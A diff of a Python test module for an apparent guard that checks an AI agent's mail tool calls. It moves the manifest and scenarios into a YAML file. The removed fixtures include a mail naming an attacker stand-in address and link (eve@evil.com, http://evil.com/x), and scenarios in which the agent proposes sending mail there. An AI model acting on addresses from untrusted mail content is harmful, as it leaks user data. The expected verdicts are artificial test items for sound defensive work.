@@ -4,111 +4,24 @@ import json
 from pathlib import Path
 from typing import Any
 
+import yaml
+
 from pdp.workbench.mutation.edits import manifest_mutants
 from pdp.workbench.scenarios.files.suite import Suite, load_suite
 from pdp.workbench.scenarios.running.engines import open_suite_engine
 from pdp.workbench.scenarios.running.runner import Runner
 
 LABELS = ("result", "roles", "admits", "destructive", "flow")
-CODE = {"type": "string", "pattern": "^[A-Z]{2}[0-9]{4}$"}
-ADDRESS = {"type": "string", "format": "email"}
-MANIFEST: dict[str, Any] = {
-    "manifest_version": "1",
-    "tools": [
-        {
-            "name": "read_mail", "effect_class": "read-internal", "scopes": ["mail"],
-            "schema": {"type": "object", "properties": {}},
-            "result_schema": {"type": "object", "properties": {
-                "id": CODE, "sender": ADDRESS, "title": {"type": "string"}, "text": {"type": "string"}}},
-            "result": {"trusted": ["/id"], "parties": ["/sender"], "names": ["/title"], "markings": ["mail"]},
-        },
-        {
-            "name": "file_mail", "effect_class": "stage", "scopes": ["mail"], "destructive": True,
-            "schema": {"type": "object", "properties": {"mail": {"type": "string"}, "folder": {"type": "string"}}},
-            "roles": {"mail": "object"}, "flow": {"profile": "strict", "otherwise": "deny"},
-            "result_schema": {"type": "object", "properties": {"receipt": {"type": "string"}}},
-        },
-        {
-            "name": "send_mail", "effect_class": "stage", "scopes": ["mail"],
-            "schema": {"type": "object", "properties": {"to": {"type": "string"}, "text": {"type": "string"}}},
-            "roles": {"to": "destination", "text": "body"}, "admits": [],
-            "flow": {"profile": "balanced", "rules": ["not_anchored"]},
-        },
-    ],
-}  # fmt: skip
-MAIL = {"id": "AB1234", "sender": "ann@example.com", "title": "Budget", "text": "Ask eve@evil.com, http://evil.com/x ."}
+STATED = yaml.safe_load(Path(__file__).with_name("labels.yaml").read_text())
+MANIFEST: dict[str, Any] = STATED["manifest"]
 KINDS = {
     "DENY softened", "answer believed", "destructive off", "marking admitted", "party believed", "profile lightened",
     "record named by more", "result believed", "result marking dropped", "role dropped", "rule dropped",
 }  # fmt: skip
 PARTY = "result: {trusted: [/id, /sender], parties: [], names: [/title], markings: [mail]}"
-READ = {"propose": {"tool": "read_mail", "arguments": {}}, "returns": MAIL, "expect": {"verdict": "ALLOW"}}
 
 
-def call(tool: str, verdict: str, *codes: str, **arguments: str) -> dict[str, Any]:
-    stated = {"verdict": verdict, "codes": [f"flow.{code}" for code in codes]} if codes else {"verdict": verdict}
-    answer = {"receipt": f"the answer of {tool}"}
-    return {"propose": {"tool": tool, "arguments": arguments}, "returns": answer, "expect": stated}
-
-
-def scenario(name: str, prompt: str, *steps: dict[str, Any]) -> dict[str, Any]:
-    return {"name": name, "session": {"prompt": [prompt]}, "steps": [READ, *steps]}
-
-
-SCENARIOS = [
-    scenario(
-        "a stranger's address",
-        "Hello",
-        call("send_mail", "STEP_UP", "egress", "not_anchored", "target_untrusted", to="eve@evil.com", text="x"),
-    ),
-    scenario(
-        "a party's address",
-        "Hello",
-        call("send_mail", "STEP_UP", "egress", "not_anchored", "target_untrusted", to="ann@example.com", text="x"),
-    ),
-    scenario(
-        "a stranger's link",
-        "Write to bob@example.com",
-        call("send_mail", "STEP_UP", "link_untrusted", to="bob@example.com", text="see http://evil.com/x"),
-    ),
-    scenario(
-        "a mail that the user has named by its title",
-        "File the mail Budget",
-        call("file_mail", "ALLOW", mail="AB1234", folder="old"),
-    ),
-    scenario(
-        "a mail that the user has not named",
-        "Go on",
-        call("file_mail", "DENY", "destructive", "not_anchored", mail="AB1234", folder="old"),
-    ),
-    scenario(
-        "a mail whose sender the user says",
-        "What does ann@example.com write?",
-        call("file_mail", "DENY", "destructive", "not_anchored", mail="AB1234", folder="old"),
-    ),
-    scenario(
-        "an answer",
-        "File the mail Budget",
-        call("file_mail", "ALLOW", mail="AB1234", folder="old"),
-        call(
-            "send_mail", "STEP_UP", "egress", "not_anchored", "target_untrusted", to="the answer of file_mail", text="x"
-        ),
-    ),
-    scenario(
-        "another answer",
-        "Write to bob@example.com",
-        call("send_mail", "ALLOW", to="bob@example.com", text="x"),
-        call(
-            "file_mail",
-            "DENY",
-            "destructive",
-            "not_anchored",
-            "target_untrusted",
-            mail="the answer of send_mail",
-            folder="old",
-        ),
-    ),
-]
+SCENARIOS = STATED["scenarios"]
 
 
 def suite_in(folder: Path, tools: Any = MANIFEST["tools"]) -> Suite:
